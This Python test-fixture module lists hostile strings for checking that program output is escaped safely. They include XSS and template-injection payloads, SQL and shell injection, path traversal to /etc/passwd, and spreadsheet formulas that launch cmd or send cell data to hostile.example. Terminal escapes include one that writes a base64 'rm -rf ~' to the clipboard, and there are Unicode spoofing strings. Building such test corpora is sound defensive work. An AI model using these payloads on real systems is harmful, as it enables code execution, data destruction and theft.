"""Strings that outputs must not obey, one list for every test that feeds them somewhere.

Each is text as a result may hold it, invalid UTF-8 as lone surrogates the way `os.fsdecode` reads
it. `as_bytes` gives what stands on the wire or in a file name; `fits` says where one cannot stand.
"""

from __future__ import annotations

MARK = "acrtracehostile"
"""Part of every payload that would run or be drawn, so that a page can be asked for its effects."""

HOSTILE: dict[str, str] = {
    "script": f"<script>window.{MARK}=1</script>",
    "script-end": f"</script><script>window.{MARK}=1</script>",
    "style-end": "</style><style>*{display:none}</style>",
    "title-end": f"</title></textarea></template><img src=x onerror=window.{MARK}=1>",
    "svg": f"<svg/onload=window.{MARK}=1>",
    "iframe": "<iframe src='https://hostile.example/'></iframe>",
    "quotes": f'" onmouseover="window.{MARK}=1" x=\'',
    "apostrophe": f"' autofocus onfocus='window.{MARK}=1",
    "backtick": f"`${{window.{MARK}=1}}`",
    "entity": "&lt;script&gt;&#60;script&#62;&amp;&NewLine;",
    "comment-end": f"--><script>window.{MARK}=1</script><!--",
    "cdata-end": f"]]><script>window.{MARK}=1</script><![CDATA[",
    "template": "{{7*7}}{% raw %}{{constructor.constructor('alert(1)')()}}${7*7}#{7*7}<%= 7*7 %>",
    "format": "{0.__class__.__mro__}%s%n%(x)s",
    "javascript-url": f"javascript:window.{MARK}=1//",
    "data-url": "data:text/html,<script>alert(1)</script>",
    "http-url": "https://hostile.example/?q=<b>",
    "bidi-override": "\u202emoc.elpmaxe\u202c",
    "bidi-isolate": "\u2066\u2067gpj.exe\u2069\u2069",
    "bidi-marks": "a\u200eb\u200fc\u061cd",
    "rtl": "\u05d0\u05d1\u05d2 \u0627\u0644\u0639\u0631\u0628\u064a\u0629 abc",
    "zero-width": "con\u200btoso\u200c.\u200d\u2060azurecr\ufeff.io",
    "soft-hyphen": "con\u00adtoso",
    "combining": "Z" + "\u0335\u0338\u0489" * 200,
    "tags": "flag\U000e0061\U000e007f",
    "no-break-space": "a\u00a0b\u2003c\u3000d",
    "nul": "before\x00after",
    "bell-backspace": "a\x07b\x08\x08\x08c\x7f",
    "ansi-colour": "\x1b[31;5mred\x1b[0m",
    "ansi-clear": "\x1b[2J\x1b[H\x1b[?1049hgone",
    "ansi-c1": "\x9b31mred\x9b0m\x85next",
    "osc-title": "\x1b]0;owned\x07",
    "osc-link": "\x1b]8;;https://hostile.example/\x1b\\click\x1b]8;;\x1b\\",
    "osc-clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "dcs": "\x1bPq#0;2;0;0;0\x1b\\",
    "carriage-return": "real\rfake",
    "newline": "one\ntwo\r\nthree",
    "vertical": "a\x0bb\x0cc",
    "unicode-newline": "a\u0085b\u2028c\u2029d",
    "tab": "a\tb",
    "formula-equals": "=cmd|'/C calc'!A0",
    "formula-hyperlink": '=HYPERLINK("https://hostile.example/?"&A1,"open")',
    "formula-plus": "+1+1",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-cr": "\r=1+1",
    "formula-newline": "\n=1+1",
    "formula-space": "  =1+1",
    "formula-zero-width": "\u200b=1+1",
    "formula-full-width": "\uff1d1+1",
    "formula-quoted": '"=1+1"',
    "csv-quotes": 'a"",b;c\td"',
    "csv-row": 'x",1\r\n"=1+1",2',
    "sql": "'; DROP TABLE flows; --",
    "shell": "$(touch owned)`touch owned`;touch owned|touch owned&",
    "option": "--force",
    "path": "../../../../etc/passwd",
    "windows-path": "..\\..\\con\\nul:stream",
    "json": '","injected":true,"x":"',
    "json-lines": '"}\n{"injected":true}\n{"x":"',
    "regex": "(a+)+$[",
    "markdown-link": "[click](https://hostile.example/)",
    "markdown-image": "![x](https://hostile.example/pixel.png)",
    "markdown-reference": "[a][b]\n\n[b]: https://hostile.example/",
    "markdown-autolink": "<https://hostile.example/> www.hostile.example me@hostile.example",
    "markdown-table": "a | b \\| c || d",
    "markdown-code": "`` ` ``` ```",
    "markdown-fence": "\n```\n# heading\n~~~\n<b>bold</b>\n",
    "markdown-heading": "\n# heading\n\n- item\n1. item\n> quote\n***\n===",
    "markdown-emphasis": "**bold** _em_ ~~gone~~ \\",
    "markdown-mention": "@everyone #1 :tada: GH-1 org/repo#1",
    "lone-surrogate": "a\udcffb\ud800c\udfff",
    "invalid-utf8": b"\xff\xfe\xc3(\xe2\x82\xed\xa0\x80\xf8".decode("utf-8", "surrogateescape"),
    "astral": "\U0001f600\U0010ffff",
    "noncharacter": "\ufffe\uffff\ufdd0",
    "prototype": "__proto__",
    "constructor": "constructor",
    "number": "1e999",
    "infinity": "-Infinity",
    "nan": "NaN",
    "null": "null",
    "empty": "",
    "space": " ",
    "long": "a" * 10_240,
    "long-labels": ".".join(["x" * 63] * 160),
    "long-markup": "<b>" * 3_400,
    "long-formula": "=" + "1+" * 5_000 + "1",
}
"""Name -> string; every name says what it attacks."""


def as_bytes(text: str) -> bytes:
    """The bytes of a string as an attacker sends them: lone surrogates are single raw bytes where
    they stand for such (`os.fsdecode`), else the three bytes that no UTF-8 decoder takes."""
    parts = []
    for character in text:
        if "\udc80" <= character <= "\udcff":
            parts.append(bytes([ord(character) - 0xDC00]))
        else:
            parts.append(character.encode("utf-8", "surrogatepass"))
    return b"".join(parts)


def fits(text: str, limit: int, without: bytes = b"") -> bool:
    """True where its bytes can stand in a field of `limit` bytes that may not hold `without`."""
    data = as_bytes(text)
    return 0 < len(data) <= limit and not any(byte in data for byte in without)


def as_file_name(text: str) -> bytes | None:
    """The string as the name of a file in a folder; None where the system could not hold it."""
    data = as_bytes(text)
    taken = data in (b"", b".", b"..") or b"/" in data or b"\0" in data
    return None if taken or len(data) > 200 else data
